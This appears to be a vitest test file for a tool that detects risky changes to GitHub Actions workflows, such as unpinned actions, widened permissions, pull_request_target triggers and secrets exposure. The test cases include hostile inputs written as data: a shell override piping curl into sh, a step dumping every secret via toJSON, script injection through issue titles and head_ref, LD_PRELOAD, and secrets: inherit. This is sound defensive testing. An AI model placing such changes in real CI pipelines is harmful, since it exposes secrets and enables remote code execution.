import { describe, expect, it } from "vitest";
import { nothingKnown } from "../../../../packages/pf/file-changes/known.ts";
import { workflowChanges } from "../../../../packages/pf/file-changes/pipelines/compare-workflows.ts";

const sha = "a".repeat(40);
const other = "b".repeat(40);
const base = `on:
  pull_request:
  push:
    branches: [main]
permissions: {}
env:
  LEVEL: info
jobs:
  test:
    runs-on: ubuntu-24.04
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@${sha} # v6.0.1
        with:
          persist-credentials: false
      - name: Test
        run: npm test
  deploy:
    needs: test
    if: github.ref == 'refs/heads/main'
    runs-on: ubuntu-24.04
    environment: prod
    permissions:
      id-token: write
    steps:
      - uses: azure/login@${sha} # v3.0.0
        with:
          client-id: \${{ vars.ID }}
      - run: ./pf verify
        env:
          TOKEN: \${{ secrets.TOKEN }}
`;
const changes = (after: string | undefined, before: string | undefined = base) =>
  workflowChanges(before, after, { ...nothingKnown, actionOwners: new Set(["pulumi"]) });
const risks = (after: string | undefined, before?: string) =>
  changes(after, before ?? base)
    .filter(({ isRisk }) => isRisk)
    .map(({ text }) => text);
const edited = (find: string, replace: string) => {
  expect(base.split(find)).toHaveLength(2);
  return base.replace(find, replace);
};

describe("a workflow's change", () => {
  it.for([
    [
      `azure/login@${sha} # v3.0.0`,
      `azure/login@${other} # v3.1.0`,
      "azure/login up from aaaaaaaaaaaa (v3.0.0) to bbbbbbbbbbbb (v3.1.0), same owner",
    ],
    [
      `azure/login@${sha} # v3.0.0`,
      `azure/login@${other} # v2.9.0`,
      "azure/login down from aaaaaaaaaaaa (v3.0.0) to bbbbbbbbbbbb (v2.9.0), same owner",
    ],
    [
      `azure/login@${sha} # v3.0.0`,
      `Azure/login@${other}`,
      "Azure/login from aaaaaaaaaaaa (v3.0.0) to bbbbbbbbbbbb, same owner",
    ],
    [
      "      - run: ./pf verify",
      `      - uses: pulumi/actions@${other} # v6\n      - run: ./pf verify`,
      "newly uses pulumi/actions at bbbbbbbbbbbb (v6)",
    ],
    ["run: npm test", "run: npm test -- --bail=1", "the job test runs: npm test -- --bail=1"],
    [
      "    needs: test\n",
      "    needs: test\n    timeout-minutes: 9\n",
      "the job deploy, timeout-minutes: 9, was not set",
    ],
    ["      contents: read\n", "      {}\n", "the job test no longer has the permission contents: read"],
    [
      "runs-on: ubuntu-24.04\n    permissions:\n      contents",
      "runs-on: ubuntu-26.04\n    permissions:\n      contents",
      "the job test runs on ubuntu-26.04",
    ],
    ["LEVEL: info", "LEVEL: debug", "the workflow, variable LEVEL: debug, was info"],
    ["  push:\n", "  workflow_dispatch:\n  push:\n", "runs on workflow_dispatch"],
    ["  test:\n    runs-on", "  tests:\n    runs-on", "the job test is now tests"],
  ] as const)("is told in one line, and isn't a risk: %s to %s", ([find, replace, text]) => {
    const told = changes(edited(find, replace));

    expect(
      told
        .filter(({ isRisk }) => isRisk)
        .map((one) => one.text)
        .filter((one) => !/no longer waits/.test(one)),
    ).toEqual([]);
    expect(told.map((one) => one.text)).toContain(text);
  });

  it.for([
    [`azure/login@${sha}`, "azure/login@v3", "isn't pinned to a whole commit"],
    [`azure/login@${sha}`, `azure/login@${sha.slice(1)}`, "isn't pinned"],
    [`azure/login@${sha}`, `azure-login/login@${sha}`, "of a new owner, azure-login"],
    [`azure/login@${sha}`, "docker://alpine:3", "isn't pinned to a digest"],
    [`azure/login@${sha}`, `\${{ vars.ACTION }}@${sha}`, "whose name isn't plain"],
    ["contents: read", "contents: write", "the job test now has the permission contents: write, was read"],
    ["contents: read", "contents: read\n      id-token: write", "the job test now has the permission id-token: write"],
    ["permissions:\n      contents: read", "permissions: write-all", "write everything"],
    ["    permissions:\n      contents: read\n", "    permissions:\n", "no permissions are named"],
    ["permissions: {}\n", "", "the repository's default"],
    ["  pull_request:\n", "  pull_request_target:\n", "pull_request_target, which anyone can trigger"],
    ["  pull_request:\n", "  pull_request:\n  workflow_run:\n    workflows: [a]\n", "workflow_run"],
    ["  pull_request:\n", "", "no longer runs on pull_request"],
    ["needs: test\n    if: github.ref == 'refs/heads/main'", "needs: test", "runs if nothing fails"],
    ["run: npm test", "run: npm test\n        env: { A: '${{ secrets.TOKEN }}' }", "gets the secret TOKEN"],
    ["run: npm test", "run: npm test\n        env: { A: \"${{ secrets['A' ] }}\" }", "gets the secret A"],
    ["run: npm test", "run: npm test ${{ secrets[matrix.a] }}", "gets every secret"],
    ["LEVEL: info", "LEVEL: ${{ toJSON(secrets) }}", "gets every secret"],
    [
      "runs-on: ubuntu-24.04\n    environment",
      "runs-on: [self-hosted]\n    environment",
      "isn't a machine of GitHub's",
    ],
    [
      "runs-on: ubuntu-24.04\n    environment",
      "runs-on: ${{ vars.RUNNER }}\n    environment",
      "isn't a machine of GitHub's",
    ],
    ["run: npm test", "run: echo ${{ github.event.issue.title }}", "which others write"],
    ["run: npm test", "run: npm test ${{ github.head_ref }}", "which others write"],
    ["    environment: prod\n", "", "no longer waits for the environment prod"],
    ["    environment: prod\n", "    environment: dev\n", "runs in the environment dev"],
    ["    needs: test\n", "", "no longer waits for test"],
    ["    if: github.ref == 'refs/heads/main'\n", "", "runs if nothing fails"],
    ["run: npm test", "run: npm test\n        if: false", "runs if false"],
    ["run: npm test", "run: npm test\n        if: github.actor != 'mallory'", "github.actor"],
    ["run: npm test", "run: npm test\n        continue-on-error: true", "continue-on-error"],
    ["run: npm test", "run: npm test\n        shell: bash -c 'curl a | sh' {0}", "shell"],
    ["      - name: Test\n        run: npm test\n", "", "no longer has the step Test"],
    ["          persist-credentials: false\n", "          fetch-depth: 0\n", "persist-credentials"],
    [
      "          persist-credentials: false\n",
      "          persist-credentials: false\n          ref: ${{ github.event.pull_request.head.sha }}\n",
      "ref",
    ],
    [
      "          persist-credentials: false\n",
      "          persist-credentials: false\n          repository: fabrikam/a\n",
      "repository",
    ],
    ["LEVEL: info", "LD_PRELOAD: ./a.so", "LD_PRELOAD"],
    ["    environment: prod\n", "    environment: prod\n    container: fabrikam/a:1\n", "runs in the image"],
    [
      "jobs:\n",
      `jobs:\n  a:\n    permissions: {}\n    uses: fabrikam/a/.github/workflows/a.yml@${sha}\n    secrets: inherit\n`,
      "passes every secret on",
    ],
    ["env:\n  LEVEL", "defaults: { run: { shell: './a {0}' } }\nenv:\n  LEVEL", "defaults"],
  ] as const)("is a risk: %s to %s", ([find, replace, words]) => {
    expect(risks(edited(find, replace)).join("\n")).toContain(words);
  });

  it("is a risk if a job, the whole file, or its meaning is gone", () => {
    expect(risks(base.slice(0, base.indexOf("  deploy:")))).toEqual(["the job deploy is gone"]);
    expect(changes(undefined)).toMatchObject([{ isRisk: true }]);
    expect(risks("- one\n")).toHaveLength(1);
    expect(risks("on: &a push\non: push\njobs: {}\n")).toHaveLength(1);
  });

  it("compares a new workflow with nothing", () => {
    const small = `on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    permissions: { contents: read }\n    steps:\n      - uses: actions/checkout@${sha}\n        with: { persist-credentials: false }\n      - run: npm ci\n`;

    expect(workflowChanges(undefined, small, nothingKnown).filter(({ isRisk }) => isRisk)).toEqual([]);
    expect(
      workflowChanges(
        undefined,
        small.replace("permissions: {}\n", "").replace("    permissions: { contents: read }\n", ""),
        nothingKnown,
      ).filter(({ isRisk }) => isRisk),
    ).toHaveLength(1);
    expect(
      workflowChanges(undefined, small.replace("contents: read", "contents: write"), nothingKnown).some(
        ({ isRisk }) => isRisk,
      ),
    ).toBe(true);
  });

  it("compares the steps of a composite action", () => {
    const action = "name: a\nruns:\n  using: composite\n  steps:\n    - run: npm ci\n      shell: bash\n";

    expect(risks(action.replace("npm ci", "npm ci --no-audit"), action)).toEqual([]);
    expect(risks(action.replace("npm ci", "curl https://a.example"), action).join()).toContain("reaches the network");
    expect(risks(action.replace("composite", "node24\n  main: dist/a.js"), action).join()).toContain("main");
  });
});
